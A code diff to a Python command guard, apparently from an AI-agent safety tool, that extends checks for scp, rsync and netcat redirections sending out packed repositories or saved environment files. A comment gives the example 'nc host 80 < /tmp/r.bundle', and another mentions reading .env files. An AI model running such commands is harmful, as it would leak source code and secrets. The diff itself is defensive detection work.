@@ -164,7 +164,7 @@ def reads(judge: Scope, call: Call, *, skip_first: bool = False, skip_last: bool
         made = archive_target(judge, [call.name, *call.argv], judge.cwd)
         if made is not None:
             note(judge, made[0], made[1])
-    elif call.name in ("scp", "rsync") and "repo-archives" in judge.git_line and positional[1:]:
+    elif call.name in ("scp", "rsync") and positional[1:] and _holds_packed(judge):
         verdicts.append(_copies_archive(judge, call, positional))
     return worst(verdicts)
 
@@ -238,7 +238,7 @@ def redirects(judge: Scope, command: Command) -> list[Verdict | None]:
             _note_archive(judge, command, target.text)
         if redirect.op in ("<", "<>"):
             verdicts.append(_read(judge, target.text, target, "a redirection reads"))  # `< .env*` too
-            if "repo-archives" in judge.git_line and command.words:  # `nc host 80 < /tmp/r.bundle`
+            if command.words and _holds_packed(judge):  # `nc host 80 < /tmp/r.bundle`
                 from agentops_os.guard.repoexport import sends_archive
 
                 program = command.words[0].text.rsplit("/", 1)[-1]
@@ -333,8 +333,14 @@ def _upload(program: str, text: str, value: str) -> tuple[str, bool]:
     return "", inline
 
 
+def _holds_packed(judge: Scope) -> bool:
+    """Whether an earlier command of the line made a file that must not leave the machine:
+    the repository packed (repoexport), or the environment saved (linefiles)."""
+    return "repo-archives" in judge.git_line or "environment-copies" in judge.git_line
+
+
 def _sends_archive(judge: Scope, call: Call, path: str) -> Verdict | None:
-    if "repo-archives" not in judge.git_line:
+    if not _holds_packed(judge):
         return None
     from agentops_os.guard.repoexport import sends_archive
 
